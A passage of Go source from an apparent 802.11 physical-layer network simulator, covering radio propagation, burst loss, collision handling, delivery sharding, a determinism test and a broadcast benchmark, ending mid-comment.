// Airtime reports how long a frame of n bytes occupies the air at rate r,
// including the PLCP preamble.
func Airtime(n int, r Rate) sim.Time {
	return plcpOverhead + sim.Time(math.Round(float64(n*8)/float64(r)*float64(sim.Second)))
}

// Position is a 2-D location in metres.
type Position struct{ X, Y float64 }

// DistanceTo returns the Euclidean distance in metres.
func (p Position) DistanceTo(q Position) float64 {
	return math.Hypot(p.X-q.X, p.Y-q.Y)
}

// Config sets the propagation model. Zero values take the defaults noted.
type Config struct {
	// PathLossExponent: 2 free space, ~3 indoor office (default 3).
	PathLossExponent float64
	// ReferenceLossDB is the loss at 1 m (default 40 dB, ~2.4 GHz).
	ReferenceLossDB float64
	// NoiseFloorDBm (default -95).
	NoiseFloorDBm float64
	// ShadowingSigmaDB adds per-frame lognormal shadowing (default 0:
	// deterministic propagation; experiments that want fading set it).
	ShadowingSigmaDB float64
	// CaptureThresholdDB: a frame survives an overlap if it is this much
	// stronger than the interferer (default 10 dB).
	CaptureThresholdDB float64
	// CarrierSenseDBm: energy above this is "channel busy" (default -85).
	CarrierSenseDBm float64
	// DisableSharding makes delivery scan every attached radio per
	// transmission, the pre-shard O(radios) behaviour. It exists for the
	// differential tests and the sharded-vs-unsharded benchmarks; real
	// worlds never set it.
	DisableSharding bool
}

func (c *Config) fill() {
	if c.PathLossExponent == 0 {
		c.PathLossExponent = 3
	}
	if c.ReferenceLossDB == 0 {
		c.ReferenceLossDB = 40
	}
	if c.NoiseFloorDBm == 0 {
		c.NoiseFloorDBm = -95
	}
	if c.CaptureThresholdDB == 0 {
		c.CaptureThresholdDB = 10
	}
	if c.CarrierSenseDBm == 0 {
		c.CarrierSenseDBm = -85
	}
}

// BurstLoss is a two-state Gilbert–Elliott channel-condition model: the
// medium is either Good or Bad, hopping between the states once per
// completed transmission, and each state adds its own frame-loss
// probability on top of the SNR model. A microwave oven, a passing forklift,
// or a jammer duty cycle all look like this to a receiver: loss arrives in
// bursts, not independently per frame — which is exactly the condition that
// exposes naive retransmission and reassociation logic.
type BurstLoss struct {
	// PGoodToBad is the per-frame probability of entering the Bad state.
	PGoodToBad float64
	// PBadToGood is the per-frame probability of recovering to Good.
	PBadToGood float64
	// GoodLoss is the extra loss probability while Good (usually 0).
	GoodLoss float64
	// BadLoss is the extra loss probability while Bad.
	BadLoss float64
}

// Medium is the shared air. All radios attach to one Medium.
//
// Internally the medium is partitioned into one shard per channel (see
// shard.go): each shard tracks its member radios in a spatial grid and the
// transmissions currently on its air, so a delivery touches only the
// interference neighborhood — O(neighbors), not O(all radios).
type Medium struct {
	kernel *sim.Kernel
	cfg    Config
	rng    *sim.RNG
	// radios is the global attach-order list; each radio's position in it
	// (Radio.idx) fixes the delivery fan-out order.
	radios []*Radio
	// shards[1..11] partition radios and active transmissions by channel.
	shards [MaxChannel + 1]mediumShard
	// cellSize is the grid cell edge (one default-power decode range).
	cellSize float64
	// spatial enables grid pruning plus the decode floor. It is off when
	// shadowing is on (reception at any distance is then a draw the loss
	// model must keep making) and under DisableSharding.
	spatial bool
	// cand is the delivery loop's candidate scratch buffer. Prepare hooks
	// never touch it — each transmission's txPrep owns its own buffer.
	cand []*Radio

	// posGen/chanGen are staleness stamps for speculative delivery prepares
	// (prepare.go): any SetPosition bumps posGen; attaching or retuning a
	// radio bumps the affected channels' chanGen. A prepared result commits
	// only if every stamp its computation could have read is unchanged.
	posGen  uint64
	chanGen [MaxChannel + 1]uint64

	// burst, when non-nil, is the active Gilbert–Elliott fault state
	// (internal/faults installs it). burstBad is the current chain state.
	burst    *BurstLoss
	burstBad bool

	// freeTx is the LIFO freelist of recycled transmission structs. A
	// transmission is recycled only once its own completion has run and no
	// other live transmission's overlaps list references it (pins == 0), so
	// reuse order is a pure function of the event sequence.
	freeTx []*transmission

	// Stats.
	Transmissions uint64
	Deliveries    uint64
	SNRDrops      uint64
	Collisions    uint64
	BurstDrops    uint64
	// PrepCommits/PrepStale count completions that consumed a prepared
	// delivery vs. recomputed serially (stale stamps, or a serial kernel
	// where the hook never ran). Diagnostics only — not part of any digest.
	PrepCommits uint64
	PrepStale   uint64
}

type transmission struct {
	src        *Radio
	channel    Channel
	start, end sim.Time
	powerDBm   float64
	data       []byte
	// buf owns the bytes data views; the medium releases it when the
	// transmission completes.
	buf  *pkt.Buf
	rate Rate
	air  sim.Time
	// overlaps lists transmissions whose air occupancy intersects this
	// one's; maintained symmetrically as transmissions start.
	overlaps []*transmission
	// pins counts live transmissions whose overlaps list references this
	// one; done records that complete has run. Both gate recycling.
	pins int
	done bool
	// completeFn is the completion closure, bound once per struct so
	// recycled transmissions do not re-allocate it; prepareFn is the
	// speculative prepare hook handed to sim.SchedulePrep the same way.
	completeFn func()
	prepareFn  func()
	// prep holds the speculatively precomputed delivery (prepare.go), valid
	// only when prep.prepared and the generation stamps still match.
	prep txPrep
}

// NewMedium creates an empty medium on the kernel.
func NewMedium(k *sim.Kernel, cfg Config) *Medium {
	cfg.fill()
	m := &Medium{kernel: k, cfg: cfg, rng: k.RNG().Fork()}
	m.cellSize = m.maxDecodeRange(defaultTxPowerDBm)
	m.spatial = cfg.ShadowingSigmaDB == 0 && !cfg.DisableSharding
	// The medium is the kernel's only source of preparable events, and every
	// completion it schedules is at least one PLCP preamble away — the
	// minimum airtime is the conservative lookahead (DESIGN.md §14).
	k.SetLookahead(plcpOverhead)
	return m
}

// SetBurstLoss installs (or, with nil, clears) the Gilbert–Elliott burst
// model. Enabling resets the chain to the Good state, so a run's loss
// pattern is a pure function of the seed and the schedule. The chain only
// draws from the RNG while installed: a medium without a burst model has an
// identical random stream to one that never heard of it.
func (m *Medium) SetBurstLoss(b *BurstLoss) {
	m.burst = b
	m.burstBad = false
}

// BurstBad reports whether the burst-loss chain is currently in the Bad
// state (false when no model is installed).
func (m *Medium) BurstBad() bool { return m.burst != nil && m.burstBad }

// burstHit steps the Gilbert–Elliott chain once and reports whether the
// current transmission is wiped by the burst condition. Channel-wide: a
// burst is interference every receiver hears, so one draw decides the frame
// for all of them.
func (m *Medium) burstHit() bool {
	b := m.burst
	if b == nil {
		return false
	}
	if m.burstBad {
		if m.rng.Bool(b.PBadToGood) {
			m.burstBad = false
		}
	} else if m.rng.Bool(b.PGoodToBad) {
		m.burstBad = true
	}
	loss := b.GoodLoss
	if m.burstBad {
		loss = b.BadLoss
	}
	return m.rng.Bool(loss)
}

// pathLossDB returns the propagation loss between two positions.
func (m *Medium) pathLossDB(a, b Position) float64 {
	d := a.DistanceTo(b)
	if d < 1 {
		d = 1
	}
	return m.cfg.ReferenceLossDB + 10*m.cfg.PathLossExponent*math.Log10(d)
}

// rxPowerDBm is the received power at rx for a transmission from tx.
func (m *Medium) rxPowerDBm(txPower float64, txPos, rxPos Position) float64 {
	p := txPower - m.pathLossDB(txPos, rxPos)
	if m.cfg.ShadowingSigmaDB > 0 {
		p += m.rng.NormFloat64() * m.cfg.ShadowingSigmaDB
	}
	return p
}

// channelRejectionDB attenuates energy from adjacent channels. 802.11b
// channels 5 apart are effectively orthogonal.
func channelRejectionDB(a, b Channel) float64 {
	d := int(a) - int(b)
	if d < 0 {
		d = -d
	}
	if d == 0 {
		return 0
	}
	if d >= 5 {
		return math.Inf(1)
	}
	return float64(d) * 12
}

// RxInfo describes a received frame to the MAC layer.
type RxInfo struct {
	Channel Channel
	RSSIDBm float64
	SNRDB   float64
	Rate    Rate
	At      sim.Time
	Airtime sim.Time
	// Src identifies the transmitting radio; it exists for tracing and is
	// not information a real receiver would have beyond the frame contents.
	Src *Radio
}

// Receiver consumes frames that survive the channel.
type Receiver func(data []byte, info RxInfo)

// Radio is one 802.11 transceiver attached to the medium. A radio is
// half-duplex and tuned to a single channel at a time.
type Radio struct {
	medium   *Medium
	name     string
	pos      Position
	channel  Channel
	txPower  float64 // dBm
	recv     Receiver
	sendBusy sim.Time // our own tx serialisation
	// down radios neither transmit nor receive — the link-flap fault.
	down bool

	// idx is the radio's global attach order; deliveries fan out in
	// ascending idx, which is the determinism contract's total order.
	idx int
	// digestLabel caches "phy/rx:"+name so the per-delivery digest mix does
	// not concatenate (and allocate) the label per frame.
	digestLabel string
	// shardIdx/cell/cellIdx locate the radio inside its channel shard and
	// grid cell for O(1) migration (see shard.go).
	shardIdx int
	cell     gridKey
	cellIdx  int

	// Counters.
	TxFrames, RxFrames, RxCollisions, RxBelowSNR uint64
	TxWhileDown                                  uint64
}

// RadioConfig configures a new radio.
type RadioConfig struct {
	Name       string
	Pos        Position
	Channel    Channel
	TxPowerDBm float64 // default 15 dBm (typical 802.11b card)
}

// AddRadio attaches a new radio to the medium.
func (m *Medium) AddRadio(cfg RadioConfig) *Radio {
	if cfg.TxPowerDBm == 0 {
		cfg.TxPowerDBm = defaultTxPowerDBm
	}
	if cfg.Channel == 0 {
		cfg.Channel = 1
	}
	if !cfg.Channel.Valid() {
		panic(fmt.Sprintf("phy: invalid channel %d", cfg.Channel))
	}
	r := &Radio{medium: m, name: cfg.Name, pos: cfg.Pos, channel: cfg.Channel, txPower: cfg.TxPowerDBm}
	r.digestLabel = "phy/rx:" + cfg.Name
	r.idx = len(m.radios)
	m.radios = append(m.radios, r)
	m.shard(r.channel).insert(r, m.cellOf(r.pos))
	m.chanGen[r.channel]++
	return r
}

// Name reports the radio's human-readable name.
func (r *Radio) Name() string { return r.name }

// Position reports the radio's location.
func (r *Radio) Position() Position { return r.pos }

// SetPosition moves the radio (client mobility), migrating it between grid
// cells when it crosses a cell boundary.
func (r *Radio) SetPosition(p Position) {
	r.pos = p
	r.medium.posGen++
	s := r.medium.shard(r.channel)
	if key := r.medium.cellOf(p); key != r.cell {
		s.removeFromCell(r)
		cell := s.grid[key]
		r.cell = key
		r.cellIdx = len(cell)
		s.grid[key] = append(cell, r)
	}
}

// Channel reports the tuned channel.
func (r *Radio) Channel() Channel { return r.channel }

// SetChannel retunes the radio (used by scanning clients and monitors),
// migrating it to the new channel's shard.
func (r *Radio) SetChannel(c Channel) {
	if !c.Valid() {
		panic(fmt.Sprintf("phy: invalid channel %d", c))
	}
	if c == r.channel {
		return
	}
	r.medium.chanGen[r.channel]++
	r.medium.chanGen[c]++
	r.medium.shard(r.channel).remove(r)
	r.channel = c
	r.medium.shard(c).insert(r, r.cell)
}

// SetDown takes the radio off the air (link-flap fault) or brings it back.
// A down radio's transmissions vanish silently and it hears nothing — from
// the protocol's point of view the hardware momentarily died, which is
// precisely what the self-healing logic above it must survive. The radio
// keeps its shard/grid membership while down — flaps are transient and the
// delivery loop's down-check is cheaper than churning the index.
func (r *Radio) SetDown(down bool) { r.down = down }

// Down reports whether the radio is administratively down.
func (r *Radio) Down() bool { return r.down }

// TxPowerDBm reports the transmit power.
func (r *Radio) TxPowerDBm() float64 { return r.txPower }

// SetTxPowerDBm adjusts transmit power (the rogue AP cranks this up).
func (r *Radio) SetTxPowerDBm(p float64) { r.txPower = p }

// SetReceiver installs the MAC-layer frame handler. The PHY delivers every
// decodable frame on the tuned channel; address filtering is the MAC's job,
// which is exactly why wireless sniffing is trivial.
func (r *Radio) SetReceiver(recv Receiver) { r.recv = recv }

// CarrierBusy reports whether the radio senses energy on its channel. A
// down radio senses nothing.
func (r *Radio) CarrierBusy() bool {
	if r.down {
		return false
	}
	return r.EnergyDBm() >= r.medium.cfg.CarrierSenseDBm
}

// Send transmits data at the given rate on the radio's channel. It adopts
// the slice as a non-pooled buffer; senders on the hot path use SendBuf.
func (r *Radio) Send(data []byte, rate Rate) sim.Time {
	return r.SendBuf(pkt.Wrap(data), rate)
}

// SendBuf transmits the packet buffer's view at the given rate on the
// radio's channel, taking ownership of pb (the medium releases it when the
// transmission leaves the air, on every path). Transmissions from one radio
// serialise; the medium handles loss and collisions. The returned time is
// when the transmission ends.
func (r *Radio) SendBuf(pb *pkt.Buf, rate Rate) sim.Time {
	m := r.medium
	now := m.kernel.Now()
	if r.down {
		// The frame leaves the MAC and dies in the dead hardware; report
		// the airtime it would have taken so senders' pacing still works.
		r.TxWhileDown++
		end := now + Airtime(pb.Len(), rate)
		pb.Release()
		return end
	}
	start := now
	if r.sendBusy > start {
		start = r.sendBusy
	}
	air := Airtime(pb.Len(), rate)
	end := start + air
	r.sendBusy = end
	r.TxFrames++
	m.Transmissions++

	tx := m.getTx()
	tx.src, tx.channel, tx.start, tx.end = r, r.channel, start, end
	tx.powerDBm, tx.data, tx.buf, tx.rate, tx.air = r.txPower, pb.Bytes(), pb, rate, air
	// Register overlaps across every shard (in fixed channel order): a
	// transmission up to 8 channels away can still interfere at a receiver
	// sitting between the two, so the overlap graph stays channel-blind —
	// exactly as wide as the pre-shard global scan. Per-receiver rejection
	// decides what actually matters at delivery time.
	for ch := MinChannel; ch <= MaxChannel; ch++ {
		for _, t := range m.shards[ch].active {
			if t.end > start && t.start < end {
				t.overlaps = append(t.overlaps, tx)
				tx.pins++
				tx.overlaps = append(tx.overlaps, t)
				t.pins++
			}
		}
	}
	s := m.shard(r.channel)
	s.active = append(s.active, tx)
	if m.spatial {
		// The completion is preparable: under a windowed kernel its
		// candidate gather and SNR/interference math run ahead of time on a
		// prepare lane (prepare.go). On a serial kernel the hook is ignored.
		m.kernel.SchedulePrep(end, tx.completeFn, tx.prepareFn)
	} else {
		m.kernel.Schedule(end, tx.completeFn)
	}
	return end
}

// getTx pops a recycled transmission or allocates a fresh one, binding its
// completion and prepare closures exactly once.
func (m *Medium) getTx() *transmission {
	if n := len(m.freeTx); n > 0 {
		tx := m.freeTx[n-1]
		m.freeTx = m.freeTx[:n-1]
		tx.pins, tx.done = 0, false
		tx.prep.prepared = false
		return tx
	}
	tx := &transmission{}
	tx.completeFn = func() { m.complete(tx) }
	tx.prepareFn = func() { m.prepare(tx) }
	return tx
}

// putTx returns a finished transmission to the freelist. The buffer was
// already released by complete; drop the remaining references so the pool
// does not pin them.
func (m *Medium) putTx(tx *transmission) {
	tx.src, tx.data, tx.buf = nil, nil, nil
	tx.overlaps = tx.overlaps[:0]
	m.freeTx = append(m.freeTx, tx)
}

// complete runs at a transmission's end time: it evaluates reception at each
// candidate radio and prunes its shard's active list. The whole fan-out runs
// inside a delivery barrier, so every pkt.Buf released by a receiver —
// including tx's own buffer — is parked in the pool's arena and recycled
// only after the last receiver has run.
func (m *Medium) complete(tx *transmission) {
	rate, air := tx.rate, tx.air
	m.kernel.BeginDelivery()
	defer m.kernel.EndDelivery()
	// The Release receiver is bound here, before retire can recycle tx.
	defer tx.buf.Release()
	defer m.retire(tx)
	now := m.kernel.Now()
	overlaps := tx.overlaps
	s := m.shard(tx.channel)
	kept := s.active[:0]
	for _, t := range s.active {
		if t != tx && t.end > now {
			kept = append(kept, t)
		}
	}
	for i := len(kept); i < len(s.active); i++ {
		s.active[i] = nil
	}
	s.active = kept

	if m.burstHit() {
		m.BurstDrops++
		return
	}

	// Candidate order is the global attach order in every mode — the RNG
	// draw sequence per candidate is what the digest contract pins. A valid
	// speculative prepare supplies the candidate list and the per-candidate
	// deterministic math (same pure functions, same inputs — bit-identical);
	// everything involving RNG, counters, the digest, or receiver callbacks
	// happens here, serially, in either case.
	var cand []*Radio
	var prx []prepRx
	switch {
	case m.cfg.DisableSharding:
		cand = m.radios
	case m.prepValid(tx):
		cand = tx.prep.cand
		prx = tx.prep.rx
		m.PrepCommits++
	default:
		cand = m.gatherCandidates(tx)
		m.PrepStale++
	}
	for i, rx := range cand {
		// No-receiver radios (the fault jammer is the only kind) are skipped
		// before any loss draw: there is nothing to deliver to, so burning
		// RNG state on them would couple every receiver's loss pattern to
		// the presence of deaf hardware. down/recv are live state, checked
		// at commit time even on the prepared path.
		if rx == tx.src || rx.down || rx.recv == nil {
			continue
		}
		var rssi, snr float64
		var floor, collided bool
		if prx != nil {
			r := &prx[i]
			rssi, snr, floor, collided = r.rssi, r.snr, r.floor, r.collided
			if !floor && !collided {
				// Overlaps registered after the prepare ran (the list is
				// append-only until retire) fold in serially; collided is an
				// order-insensitive OR, so prefix-then-suffix is exact.
				collided = m.overlapCollides(overlaps[tx.prep.overlapsN:], rx, rssi)
			}
		} else {
			rej := channelRejectionDB(tx.channel, rx.channel)
			if math.IsInf(rej, 1) {
				// Only reachable via the DisableSharding scan; the shard
				// neighborhood never yields an orthogonal-channel radio.
				continue
			}
			rssi = m.rxPowerDBm(tx.powerDBm, tx.src.pos, rx.pos) - rej
			snr = rssi - m.cfg.NoiseFloorDBm
			// Below the decode floor: deterministically lost, no RNG draw.
			// The floor deliberately ignores channel rejection — it is the
			// same pure distance/power cut maxDecodeRange solves for, which
			// is what makes grid pruning sound AND keeps the draw sequence
			// for every in-range radio identical to the pre-shard medium
			// (a close radio on an adjacent channel still rolls its dice,
			// exactly as before, however hopeless rejection makes them).
			floor = m.spatial && snr+rej < decodeFloorSNRDB
			if !floor {
				collided = m.overlapCollides(overlaps, rx, rssi)
			}
		}
		if floor {
			rx.RxBelowSNR++
			m.SNRDrops++
			continue
		}
		if collided {
			rx.RxCollisions++
			m.Collisions++
			continue
		}
		if !m.frameSurvives(snr, len(tx.data), rate) {
			rx.RxBelowSNR++
			m.SNRDrops++
			continue
		}
		rx.RxFrames++
		m.Deliveries++
		m.kernel.MixDigest(rx.digestLabel, tx.data)
		info := RxInfo{
			Channel: tx.channel, RSSIDBm: rssi, SNRDB: snr,
			Rate: rate, At: now, Airtime: air, Src: tx.src,
		}
		rx.recv(tx.data, info)
	}
}

// overlapCollides reports whether any transmission in overlaps is loud enough
// at rx to defeat capture of a frame received at rssi. No RNG, no counters —
// the same pure predicate serves the serial path, the prepare hook (prefix),
// and the commit-time fold (suffix). The early return is sound for the same
// reason the prefix/suffix split is: only the OR is observable.
func (m *Medium) overlapCollides(overlaps []*transmission, rx *Radio, rssi float64) bool {
	for _, o := range overlaps {
		orej := channelRejectionDB(o.channel, rx.channel)
		if math.IsInf(orej, 1) {
			continue
		}
		op := o.powerDBm - m.pathLossDB(o.src.pos, rx.pos) - orej
		if rssi-op < m.cfg.CaptureThresholdDB {
			return true
		}
	}
	return false
}

// retire marks tx finished and recycles every transmission that is no longer
// referenced: tx itself, and any overlap partner whose last pin this was.
func (m *Medium) retire(tx *transmission) {
	tx.done = true
	for _, o := range tx.overlaps {
		o.pins--
		if o.done && o.pins == 0 {
			m.putTx(o)
		}
	}
	if tx.pins == 0 {
		m.putTx(tx)
	}
}

// frameSurvives applies the SNR/size loss model: a logistic per-frame success
// curve centred on the rate's required SNR, sharpened for larger frames.
func (m *Medium) frameSurvives(snr float64, size int, rate Rate) bool {
	margin := snr - rate.requiredSNR()
	pBit := 1 / (1 + math.Exp(-margin*1.2)) // per-"block" success
	// Longer frames face more chances to be hit; normalise to 256-byte blocks.
	blocks := float64(size)/256 + 1
	pFrame := math.Pow(pBit, blocks)
	return m.rng.Bool(pFrame)
}

// SNRAt reports the SNR a receiver at pos would see from a transmitter —
// used by topology builders to sanity-check placements.
func (m *Medium) SNRAt(txPower float64, txPos, rxPos Position) float64 {
	return txPower - m.pathLossDB(txPos, rxPos) - m.cfg.NoiseFloorDBm
}

// SNRAtDistance reports the deterministic (no-shadowing) SNR d metres from a
// transmitter at txPower dBm under this config; zero-value fields take their
// defaults. It needs no Medium — topology generators use it to validate a
// layout's connectivity before any kernel exists.
func (c Config) SNRAtDistance(txPower, d float64) float64 {
	c.fill()
	if d < 1 {
		d = 1
	}
	return txPower - (c.ReferenceLossDB + 10*c.PathLossExponent*math.Log10(d)) - c.NoiseFloorDBm
}

// DefaultTxPowerDBm is the transmit power AddRadio assigns when RadioConfig
// leaves it zero.
const DefaultTxPowerDBm = defaultTxPowerDBm

// Radios returns the attached radios (for inspection in tests and tools).
func (m *Medium) Radios() []*Radio { return m.radios }
