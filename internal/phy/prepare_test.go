package phy

import (
	"testing"

	"repro/internal/sim"
)

// TestPreparedDeliveryMatchesSerial is the phy-level differential for the
// conservative-window kernel: the same traffic — overlapping sends from many
// radios, plus mid-run retunes and moves that invalidate in-flight prepares —
// must produce byte-identical digests and identical counters whether
// completions commit prepared (workers > 0) or recompute serially.
func TestPreparedDeliveryMatchesSerial(t *testing.T) {
	type outcome struct {
		digest                                    uint64
		deliveries, snrDrops, collisions, txCount uint64
	}
	run := func(workers int) (outcome, *Medium) {
		k := sim.NewKernel(7)
		k.SetWorkers(workers)
		m := NewMedium(k, Config{})
		var radios []*Radio
		for i := 0; i < 36; i++ {
			r := m.AddRadio(RadioConfig{
				Name:    "r",
				Pos:     Position{float64(i%6) * 25, float64(i/6) * 25},
				Channel: Channel(1 + (i%3)*5), // 1/6/11
			})
			r.SetReceiver(func(data []byte, info RxInfo) {})
			radios = append(radios, r)
		}
		// Bursts of overlapping sends: several radios transmit in the same
		// microsecond, so completions carry non-empty overlap lists and new
		// overlaps keep arriving after prepares run.
		for round := 0; round < 40; round++ {
			round := round
			k.Schedule(sim.Time(round)*300*sim.Microsecond, func() {
				for j := 0; j < 3; j++ {
					src := radios[(round*5+j*7)%len(radios)]
					src.Send(make([]byte, 150+round), Rate11Mbps)
				}
			})
		}
		// Mid-run state changes that must invalidate prepared deliveries:
		// a retune into a busy channel, a move across grid cells, and a
		// radio flapping down (rechecked live, no stamp needed).
		k.Schedule(2*sim.Millisecond, func() { radios[4].SetChannel(6) })
		k.Schedule(5*sim.Millisecond, func() { radios[9].SetPosition(Position{10, 10}) })
		k.Schedule(7*sim.Millisecond, func() { radios[14].SetDown(true) })
		k.Schedule(9*sim.Millisecond, func() { radios[14].SetDown(false) })
		k.Run()
		return outcome{
			digest:     k.Digest(),
			deliveries: m.Deliveries, snrDrops: m.SNRDrops,
			collisions: m.Collisions, txCount: m.Transmissions,
		}, m
	}
	serial, sm := run(0)
	if serial.deliveries == 0 || serial.collisions == 0 {
		t.Fatalf("weak scenario: %d deliveries, %d collisions — wants both nonzero", serial.deliveries, serial.collisions)
	}
	if sm.PrepCommits != 0 {
		t.Fatalf("serial kernel committed %d prepared deliveries; the hook should never run", sm.PrepCommits)
	}
	for _, workers := range []int{1, 4} {
		got, m := run(workers)
		if got != serial {
			t.Errorf("workers=%d diverged: %+v vs serial %+v", workers, got, serial)
		}
		if m.PrepCommits == 0 {
			t.Errorf("workers=%d: no completion ever consumed a prepared delivery", workers)
		}
		if m.PrepStale == 0 {
			t.Errorf("workers=%d: no prepare was ever invalidated — the retune/move path is untested", workers)
		}
	}
}

// TestPrepStaleness pins the generation stamps one mutation at a time: each
// state change between a transmission's send and its completion must force
// the serial recompute path for that completion.
func TestPrepStaleness(t *testing.T) {
	cases := []struct {
		name   string
		mutate func(m *Medium, bystander *Radio)
	}{
		{"retune-in-neighborhood", func(m *Medium, by *Radio) { by.SetChannel(2) }},
		{"retune-from-neighborhood", func(m *Medium, by *Radio) { by.SetChannel(11) }},
		{"move", func(m *Medium, by *Radio) { by.SetPosition(Position{3, 3}) }},
		{"attach", func(m *Medium, by *Radio) {
			r := m.AddRadio(RadioConfig{Name: "new", Pos: Position{1, 1}, Channel: 1})
			r.SetReceiver(func(data []byte, info RxInfo) {})
		}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			k := sim.NewKernel(1)
			k.SetWorkers(1)
			m := NewMedium(k, Config{})
			src := m.AddRadio(RadioConfig{Name: "src", Pos: Position{0, 0}, Channel: 1})
			dst := m.AddRadio(RadioConfig{Name: "dst", Pos: Position{8, 0}, Channel: 1})
			dst.SetReceiver(func(data []byte, info RxInfo) {})
			bystander := m.AddRadio(RadioConfig{Name: "by", Pos: Position{0, 8}, Channel: 1})
			bystander.SetReceiver(func(data []byte, info RxInfo) {})
			// The mutation lands mid-air: after the send (and after the next
			// window's prepare collection could have run), before completion.
			k.Schedule(0, func() {
				end := src.Send(make([]byte, 400), Rate1Mbps)
				k.Schedule(end-10*sim.Microsecond, func() { tc.mutate(m, bystander) })
			})
			k.Run()
			if m.PrepStale == 0 {
				t.Fatalf("mutation did not invalidate the prepared delivery (commits=%d stale=%d)",
					m.PrepCommits, m.PrepStale)
			}
		})
	}
}
