package phy

import (
	"fmt"
	"math"
	"testing"

	"repro/internal/sim"
)

// benchmarkMediumBroadcast measures per-transmission delivery cost at a
// given world size: radios on a 90 m grid cycling through the 1/6/11 plan,
// with senders rotating through the population so no single neighborhood
// stays hot. Sharded delivery evaluates one interference neighborhood per
// frame, so ns/op should stay roughly flat as the world grows; the
// Unsharded variant (DisableSharding: the pre-shard O(radios) scan) scales
// linearly and is the comparison floor for the events/sec claim.
func benchmarkMediumBroadcast(b *testing.B, n int, disable bool) {
	k := sim.NewKernel(1)
	m := NewMedium(k, Config{DisableSharding: disable})
	side := int(math.Ceil(math.Sqrt(float64(n))))
	plan := [3]Channel{1, 6, 11}
	for i := 0; i < n; i++ {
		r := m.AddRadio(RadioConfig{
			Name:    fmt.Sprintf("r%d", i),
			Pos:     Position{X: float64(i%side) * 90, Y: float64(i/side) * 90},
			Channel: plan[i%3],
		})
		r.SetReceiver(func(data []byte, info RxInfo) {})
	}
	radios := m.Radios()
	payload := make([]byte, 512)
	var events uint64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		radios[i%n].Send(payload, Rate11Mbps)
		// 512 bytes at 11 Mb/s is well under a millisecond: each iteration
		// is one complete transmission plus its delivery fan-out.
		events += k.RunFor(sim.Millisecond)
	}
	b.ReportMetric(float64(events)/b.Elapsed().Seconds(), "events/sec")
}

func BenchmarkMediumBroadcast(b *testing.B) {
	for _, n := range []int{64, 1024, 4096} {
		n := n
		b.Run(fmt.Sprintf("radios=%d", n), func(b *testing.B) {
			benchmarkMediumBroadcast(b, n, false)
		})
	}
}

func BenchmarkMediumBroadcastUnsharded(b *testing.B) {
	b.Run("radios=1024", func(b *testing.B) {
		benchmarkMediumBroadcast(b, 1024, true)
	})
}
