package phy

import (
	"math"
	"sort"
)

// This file is the spatial/channel index behind the medium: one shard per
// DSSS channel, each holding the radios tuned to it (bucketed by a coarse
// square grid) and the transmissions it currently carries. A transmission is
// evaluated only against the radios that could possibly decode it — the
// shards within adjacent-channel rejection range and the grid cells within
// the maximum decode range — so delivery cost scales with the interference
// neighborhood, not the world size.
//
// Determinism (DESIGN.md §13): shard iteration is always in ascending
// channel order, grid-cell scans walk a fixed row-major rectangle, and the
// gathered candidates are sorted by each radio's global insertion index
// before any RNG-consuming evaluation. The result is the exact radio order
// the pre-shard medium used (global attach order), restricted to a set that
// provably contains every radio the loss model would roll dice for — which
// is why the pinned chaos digests survive the refactor byte-identical.

// decodeFloorDB puts a hard floor under the loss model: a receiver whose
// pre-rejection SNR sits this far below the most forgiving rate's required
// SNR has a per-block success probability under 6e-7 at ANY rate, and the
// medium skips the delivery attempt without consuming an RNG draw. The
// floor is what makes spatial pruning sound — the grid may hand the
// delivery loop a superset of the in-range radios, and the floor is the
// exact, deterministic filter.
//
// Two deliberate choices keep the draw sequence identical to the pre-shard
// medium for every world whose radios sit inside the decode range:
//   - the floor ignores channel rejection (a close radio on an adjacent
//     channel still rolls its dice, however hopeless rejection makes them,
//     exactly as before the refactor);
//   - it only applies when shadowing is off: lognormal shadowing makes
//     reception at any distance a draw the loss model must keep making, so
//     shadowed mediums evaluate every radio in the channel neighborhood.
const decodeFloorDB = 12

// decodeFloorSNRDB is the floor as an absolute pre-rejection SNR: below
// Rate1Mbps's 4 dB requirement minus the floor margin, no rate decodes.
const decodeFloorSNRDB = 4 - decodeFloorDB

// defaultTxPowerDBm is the radio default (typical 802.11b card); the grid
// cell size is derived from it so one cell spans a default transmitter's
// decode range.
const defaultTxPowerDBm = 15

// gridKey addresses one square grid cell of a shard.
type gridKey struct{ cx, cy int32 }

// mediumShard is the per-channel partition: member radios, their spatial
// grid, and the transmissions on air on this channel.
type mediumShard struct {
	radios []*Radio
	grid   map[gridKey][]*Radio
	active []*transmission
}

// shard returns the partition for a channel (caller guarantees validity).
func (m *Medium) shard(c Channel) *mediumShard { return &m.shards[c] }

// channelNeighborhood bounds the channels whose energy is mutually audible:
// 802.11b channels 5 or more apart are orthogonal (channelRejectionDB is
// +Inf), so only c±4 can interact.
func channelNeighborhood(c Channel) (lo, hi Channel) {
	lo, hi = c-4, c+4
	if lo < MinChannel {
		lo = MinChannel
	}
	if hi > MaxChannel {
		hi = MaxChannel
	}
	return lo, hi
}

// maxDecodeRange is the distance at which a transmission at powerDBm falls
// to decodeFloorSNRDB of pre-rejection SNR — beyond it no receiver rolls
// dice for the frame. The 1% slack keeps the grid's cell rectangle strictly
// conservative against float rounding: pruning must only ever drop radios
// the floor check would skip anyway.
func (m *Medium) maxDecodeRange(powerDBm float64) float64 {
	exp := (powerDBm - m.cfg.ReferenceLossDB - m.cfg.NoiseFloorDBm - decodeFloorSNRDB) /
		(10 * m.cfg.PathLossExponent)
	return 1.01 * math.Pow(10, exp)
}

// cellOf maps a position to its grid cell.
func (m *Medium) cellOf(p Position) gridKey {
	return gridKey{
		cx: int32(math.Floor(p.X / m.cellSize)),
		cy: int32(math.Floor(p.Y / m.cellSize)),
	}
}

// insert adds r (already positioned and tuned) to the shard and its grid
// cell, recording the indices that make removal O(1).
func (s *mediumShard) insert(r *Radio, key gridKey) {
	r.shardIdx = len(s.radios)
	s.radios = append(s.radios, r)
	if s.grid == nil {
		s.grid = make(map[gridKey][]*Radio)
	}
	r.cell = key
	cell := s.grid[key]
	r.cellIdx = len(cell)
	s.grid[key] = append(cell, r)
}

// remove detaches r from the shard via swap-remove. Membership order is not
// observable — candidates are re-sorted by global index before delivery.
func (s *mediumShard) remove(r *Radio) {
	last := len(s.radios) - 1
	moved := s.radios[last]
	s.radios[r.shardIdx] = moved
	moved.shardIdx = r.shardIdx
	s.radios[last] = nil
	s.radios = s.radios[:last]
	s.removeFromCell(r)
}

// removeFromCell detaches r from its grid cell only (swap-remove). The
